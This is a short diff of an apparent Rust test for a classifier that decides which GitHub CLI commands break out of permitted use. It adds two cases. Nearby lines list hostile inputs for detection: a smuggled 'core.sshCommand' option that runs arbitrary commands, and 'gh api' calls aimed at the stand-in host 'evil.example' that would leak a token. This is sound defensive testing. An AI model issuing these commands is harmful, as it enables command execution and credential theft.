@@ -186,6 +186,8 @@ fn gh_prints_no_token_and_talks_to_its_host() {
         escapes gh issue create -we
         escapes gh gist clone x -- -c core.sshCommand=x
         + gh run list -w ci.yml
+        escapes gh run view -w 7
+        + gh search issues -- -label:bug
         + gh secret set A -e prod -b x
         escapes gh api -t -- --hostname evil.example user
         for gh api -t x --hostname evil.example user
